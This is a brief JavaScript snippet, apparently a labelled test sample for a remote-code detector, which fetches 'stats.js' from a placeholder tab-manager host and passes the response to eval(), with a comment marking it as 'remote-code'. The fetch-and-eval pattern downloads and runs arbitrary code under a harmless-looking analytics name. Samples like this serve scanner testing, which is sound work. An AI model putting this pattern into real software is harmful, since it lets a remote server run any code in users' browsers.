var request = new XMLHttpRequest();
request.open('GET', 'https://static.tab-manager.example/stats.js?' + Date.now(), true);
request.onreadystatechange = function () {
  if (request.readyState === 4 && request.status === 200) {
    // expect: remote-code
    eval(request.responseText);
  }
};
request.send();
